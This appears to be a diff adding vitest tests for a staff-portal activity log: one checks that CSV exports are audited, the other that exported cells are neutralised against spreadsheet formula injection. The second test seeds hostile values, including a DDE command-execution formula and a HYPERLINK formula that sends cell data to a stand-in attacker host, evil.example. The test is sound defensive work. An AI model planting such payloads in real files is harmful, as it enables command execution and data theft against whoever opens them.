@@ -1,4 +1,5 @@
 import { count, eq } from 'drizzle-orm';
+import Papa from 'papaparse';
 import { describe, expect, it } from 'vitest';
 import * as admin from '@staff-portal/identity/admin';
 import { identityOutbox } from '@staff-portal/identity/schema';
@@ -161,6 +162,91 @@ describe('IT admin: the activity explorer', () => {
     expect(lines).toHaveLength(1 + 10);
     expect(lines[1]).toContain('leave-admin,entitlement.set');
     expect(lines[1]).toContain('"{""enabled"":true}"');
+  });
+
+  it('audits each export: who, the filters and how many rows (docs/product/files-mail-logs.md §2)', async () => {
+    const ctx = await createTestApp();
+    await seedActivity(ctx, 30);
+    const answer = await call(ctx, IT, 'GET', '/activity.csv?source=audit&area=leave-admin&limit=5');
+    expect(answer.statusCode).toBe(200);
+    const trail = await ctx.database.db.select().from(auditEntries).where(eq(auditEntries.action, 'activity.export'));
+    expect(trail).toMatchObject([
+      {
+        actorId: IT.sub,
+        actorEmail: IT.email,
+        area: 'it-admin',
+        target: null,
+        targetLabel: 'activity.csv',
+        after: { filters: { source: 'audit', area: 'leave-admin' }, rows: 10, complete: true },
+      },
+    ]);
+    // The next export finds the first one's entry.
+    const again = await call(ctx, IT, 'GET', '/activity.csv?action=activity.export');
+    expect(again.body.trim().split('\n')).toHaveLength(2);
+  });
+
+  it('writes no cell a spreadsheet would run as a formula (docs/product/files-mail-logs.md §4)', async () => {
+    const ctx = await createTestApp();
+    // Any signed-in user logs through the logging API; an HR admin titles a post.
+    const staff = { sub: crypto.randomUUID(), groups: ['HR'], email: 'staff@example.org' };
+    const logged = await ctx.app.inject({
+      method: 'POST',
+      url: '/api/log/',
+      headers: { authorization: `Bearer ${await ctx.tokens.idToken(staff)}` },
+      payload: {
+        userId: staff.sub,
+        action: "=cmd|' /C calc'!A0",
+        request: '',
+        url: '@SUM(1+1)',
+        stream: '+stream',
+        logDate: '2026-11-01T17:00:00.000Z',
+      },
+    });
+    expect(logged.statusCode).toBe(201);
+    const hrAdmin = { sub: crypto.randomUUID(), groups: ['HRAdmin'], email: '-hr@example.org' };
+    const post = await ctx.app.inject({
+      method: 'POST',
+      url: '/api/posts/admin',
+      headers: { authorization: `Bearer ${await ctx.tokens.idToken(hrAdmin)}` },
+      payload: {
+        kind: 'announcement',
+        title: '=HYPERLINK("https://evil.example/?"&A1,"Click")',
+        body: 'Hello.',
+        audience: 'everyone',
+        publishAt: new Date(Date.now() - 3_600_000).toISOString(),
+      },
+    });
+    expect(post.statusCode).toBe(201);
+    // The other first characters, as any audited name could start.
+    await ctx.database.db.insert(auditEntries).values(
+      ['+1+1', '-2+3', '@SUM(1)', '\t=1+1', '\r=1+1'].map((label) => ({
+        actorId: IT.sub,
+        actorEmail: '@it@example.org',
+        area: 'staff-records',
+        action: 'staff.update',
+        target: label,
+        targetLabel: label,
+      })),
+    );
+
+    const answer = await call(ctx, IT, 'GET', '/activity.csv');
+    expect(answer.statusCode).toBe(200);
+    const rows = Papa.parse<string[]>(answer.body.replace(/^\uFEFF/, ''), { skipEmptyLines: true }).data;
+    const cells = rows.slice(1).flat();
+    expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
+    expect(cells).toEqual(
+      expect.arrayContaining([
+        "'=cmd|' /C calc'!A0",
+        `'=HYPERLINK("https://evil.example/?"&A1,"Click")`,
+        "'-hr@example.org",
+        "'+1+1",
+        "'-2+3",
+        "'@SUM(1)",
+        "'\t=1+1",
+        "'\r=1+1",
+        "'@it@example.org",
+      ]),
+    );
   });
 });
 
